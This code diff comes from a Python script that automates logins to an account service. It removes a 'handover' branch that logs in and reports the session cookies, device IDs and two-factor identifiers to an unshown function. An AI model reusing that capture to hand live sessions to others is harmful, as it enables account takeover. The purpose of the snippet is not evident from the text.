@@ -16,27 +16,6 @@ def login(client, code=""):
     return getattr(client, name)(person.handle, person.password, verification_code=code)
 
 
-if person.way == "handover":
-    client = Client(private_transport="requests")
-    tried(client.login_legacy, person.handle, person.password)
-    info = client.last_json["two_factor_info"]
-    report(
-        context={
-            "route": "two_factor",
-            "user_agent": client.user_agent,
-            "cookies": client.private.cookies.get_dict(),
-            "device": {
-                "guid": client.uuid,
-                "device_id": client.android_device_id,
-                "phone_id": client.phone_id,
-            },
-            "username": info["username"],
-            "two_factor_identifier": info["two_factor_identifier"],
-            "totp_two_factor_on": info["totp_two_factor_on"],
-            "sms_two_factor_on": info["sms_two_factor_on"],
-        }
-    )
-    raise SystemExit
 if way == "checkpoint":
     client = Client(private_transport="requests")
     codes = [wrong_code, ""]
